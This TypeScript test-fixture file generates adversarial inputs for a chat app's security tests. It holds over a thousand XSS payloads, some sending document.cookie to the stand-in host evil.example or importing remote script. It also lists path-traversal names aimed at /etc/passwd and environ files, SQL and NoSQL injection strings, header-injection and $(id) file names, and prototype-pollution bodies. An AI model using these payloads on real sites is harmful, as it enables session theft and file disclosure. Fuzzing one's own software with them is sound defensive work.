// SPDX-License-Identifier: GPL-3.0-or-later
//
// What an attacker types. Lists are made by combination, so that a new context or a new verb multiplies them; what is random is seeded, and
// the seed is printed, so that a failure can be repeated with TEST_SEED.

export interface Random {
  seed: number
  /** A whole number from 0 up to, not including, `below`. */
  integer(below: number): number
  pick<T>(from: readonly [T, ...T[]] | readonly T[]): T
  /** Text of `length` signs out of `alphabet`. */
  text(length: number, alphabet?: string): string
}

/** Numbers that are the same for the same seed (mulberry32). The seed is new at every run, and printed. */
export function seededRandom(name: string, seed = Number(process.env.TEST_SEED ?? Date.now() % 2 ** 31)): Random {
  console.log(`      ${name}: repeat with TEST_SEED=${seed}`)
  let state = seed >>> 0
  function next(): number {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
  const integer = (below: number) => Math.floor(next() * below)
  return {
    seed,
    integer,
    pick: (from) => from[integer(from.length)] as (typeof from)[number],
    text(length, alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789') {
      const signs = [...alphabet]
      return Array.from({ length }, () => signs[integer(signs.length)]).join('')
    },
  }
}

/** What a payload would do if it ran: a page in which this was called has lost. `window.__pwned` needs no network and no dialog. */
const deeds = ['alert(1)', 'window.__pwned=1', 'fetch("//evil.example/"+document.cookie)', 'import("//evil.example/x.js")'] as const

/** Ways out of the place where the text stands. */
const exits = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  '</template>',
  '</style>',
  ']]>',
  '</li></ul>',
  '\u2028',
  '`}',
] as const

/** Ways to run a deed once outside. */
const vehicles: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<img src=x onerror=${quoted(deed)}>`,
  (deed) => `<svg/onload=${quoted(deed)}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<math><mtext><img src=x onerror=${quoted(deed)}></mtext></math>`,
  (deed) => `<body onload=${quoted(deed)}>`,
  (deed) => `<details open ontoggle=${quoted(deed)}>x</details>`,
  (deed) => `<input autofocus onfocus=${quoted(deed)}>`,
  (deed) => `<video><source onerror=${quoted(deed)}></video>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed.replaceAll('"', "'")}</script>"></iframe>`,
  (deed) => `<a href="javascript:${deed.replaceAll('"', "'")}">x</a>`,
  (deed) => `<form action="javascript:${deed.replaceAll('"', "'")}"><button>x</button></form>`,
  (deed) => `<button formaction="javascript:${deed.replaceAll('"', "'")}">x</button>`,
  (deed) => `<object data="data:text/html,<script>${deed.replaceAll('"', "'")}</script>"></object>`,
  (deed) => `<style>@import "//evil.example/x.css";</style><!--${deed}-->`,
  (deed) => `<meta http-equiv="refresh" content="0;url=javascript:${deed.replaceAll('"', "'")}">`,
  (deed) => `<base href="//evil.example/"><!--${deed}-->`,
  (deed) => `<link rel="stylesheet" href="//evil.example/x.css"><!--${deed}-->`,
  (deed) => `<p style="background:url(//evil.example/x.png)" onmouseover=${quoted(deed)}>x</p>`,
  // htmx is a way to run things too: these need no script at all.
  (deed) => `<div hx-get="/admin" hx-trigger="load" hx-on:load=${quoted(deed)}>x</div>`,
  (deed) => `<div data-hx-post="/salir" data-hx-trigger="load" data-hx-vals='js:{x:${deed.replaceAll("'", '"')}}'>x</div>`,
  (deed) => `<div id="main" hx-swap-oob="true"><!--${deed}-->gone</div>`,
  (deed) => `<div hx-ext="ws" ws-connect="//evil.example/" ws-send><!--${deed}-->x</div>`,
  (deed) => `<div sse-connect="//evil.example/"><!--${deed}-->x</div>`,
  (deed) => `<hx-partial hx-target="body"><script>${deed}</script></hx-partial>`,
]

function quoted(deed: string): string {
  return `"${deed.replaceAll('"', '&quot;')}"`
}

/** Script in any context: over a thousand, each different. Text that reaches a page must be shown exactly so, and do nothing. */
export const scripts: readonly string[] = unique(
  exits.flatMap((exit) => vehicles.flatMap((vehicle) => deeds.map((deed) => `${exit}${vehicle(deed)}`))),
)

/** One of each vehicle, for where a thousand would take too long. */
export const fewScripts: readonly string[] = unique(vehicles.map((vehicle, index) => `${exits[index % exits.length]}${vehicle(deeds[1])}`))

/** Addresses that must not become links. */
export const badLinks: readonly string[] = unique(
  [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    '//evil.example/',
  ].flatMap((address) => [
    address,
    ` ${address}`,
    `\u0001${address}`,
    `\t${address}`,
    `${address.slice(0, 4)}\t${address.slice(4)}`,
    `${address.slice(0, 4)}\n${address.slice(4)}`,
    address.replace(':', '&colon;'),
    address.replace('j', '&#106;'),
    address.replace('a', '%61'),
  ]),
)

const climbs = [
  '../',
  '..\\',
  '..%2f',
  '..%5c',
  '%2e%2e/',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '..%252f',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..;/',
  '....//',
  '..%00/',
  '.%2e/',
] as const
const goals = ['etc/passwd', 'pichat.db', 'secret.key', 'cuarentena/', 'proc/self/environ', 'package.json'] as const

/** Names that try to leave the folder they are given to: over three hundred. Percent signs are meant literally in a path. */
export const traversals: readonly string[] = unique([
  ...climbs.flatMap((climb) => [1, 2, 3, 8].flatMap((times) => goals.map((goal) => `${climb.repeat(times)}${goal}`))),
  ...goals.flatMap((goal) => [
    `/${goal}`,
    `//${goal}`,
    `\\\\host\\share\\${goal}`,
    `C:\\${goal}`,
    `file:///${goal}`,
    `${goal}%00.png`,
    `${goal}\u0000.png`,
    `./${goal}`,
  ]),
  '.',
  '..',
  '%2e',
  '%2e%2e',
  '~root',
  '/dev/zero',
  '/proc/self/fd/1',
])

/** Names of files that are hard to store, to show or to send back in a header. */
export const fileNames: readonly string[] = unique([
  ...['"', "'", ';', '\\', '/', '\r\n', '\n', '\u0000', '%', '%0d%0a', '$(id)', '`id`', '|', '<', '>', '*', '?', ':', '#', '&'].flatMap(
    (sign) => [`informe${sign}.pdf`, `${sign}informe.pdf`, `informe.pdf${sign}`, sign],
  ),
  'informe.pdf"; filename="otro.exe',
  "informe.pdf; filename*=UTF-8''otro.exe",
  'informe\r\nSet-Cookie: sid=1\r\n.pdf',
  'año nuevo.txt',
  'reunión – acta “final”.docx',
  '日本語のファイル.txt',
  '🎉🎉🎉.png',
  '👩‍👩‍👧‍👦.jpg',
  'e\u0301tude.txt',
  '\u202Egpj.exe',
  'a\u200Bb.txt',
  '\uFEFFbom.txt',
  '\uD800.txt',
  '.htaccess',
  '..',
  '...',
  '   ',
  '-rf',
  '--help',
  'CON',
  'nul.txt',
  'COM1.log',
  'con.',
  'nombre con espacio al final ',
  'punto.al.final.',
  'x'.repeat(255),
  `${'x'.repeat(400)}.txt`,
  `${'ñ'.repeat(130)}.txt`,
  `${'🎉'.repeat(64)}.txt`,
])

/** Names of people that are not to be had: like another's, invisible, or made to break a line. Refused with 422. */
export const personNames: readonly string[] = unique([
  '',
  ' ',
  '\u200B',
  '\u200Bana',
  'an\u00ADa',
  '\u202Eana',
  'ana\u2066',
  'ana\u0000',
  'ana\nadmin',
  'ana\r',
  '\u1160\u3164',
  // Cyrillic а among Latin letters.
  'аdmin',
  'adm\u0456n',
  `a${'\u0301'.repeat(10_000)}`,
  'a'.repeat(129),
  '👩‍👩‍👧‍👦'.repeat(33),
])

/** Fields nobody may send, because they would be assigned. */
export const uninvitedFields: readonly Record<string, unknown>[] = [
  { role: 'administrator' },
  { rol: 'administrator' },
  { isAdmin: true },
  { id: '0000000000000000' },
  { __proto__x: 1 },
  JSON.parse('{"__proto__":{"role":"administrator"}}'),
  { constructor: { prototype: { role: 'administrator' } } },
]

/** Bodies sent as application/json: deep, wide, torn, doubled. */
export const jsonBodies: readonly string[] = [
  '',
  'null',
  '42',
  '"text"',
  '[]',
  '{',
  '{"texto":"a","texto":"b"}',
  '{"__proto__":{"role":"administrator"}}',
  '{"constructor":{"prototype":{"role":"administrator"}}}',
  '{"texto":{"$ne":null}}',
  '{"texto":["a"]}',
  '{"texto":1e999}',
  `{"texto":${'1'.repeat(10_000)}}`,
  '\uFEFF{"texto":"a"}',
  '{"texto":"\\ud800"}',
  '['.repeat(20_000),
  '{"a":'.repeat(10_000),
]

/** Texts that mean something to a database's query language. */
export const queryTexts: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  'a\u0000b',
  '%',
  '_',
  '%_%_%_%_%_%_%_%_%',
  '*',
  'NEAR(a b)',
  '"',
  'a:b',
  '^a',
  'a AND',
  '{a b}',
  '(',
  '-',
]

function unique(texts: readonly string[]): string[] {
  return [...new Set(texts)]
}
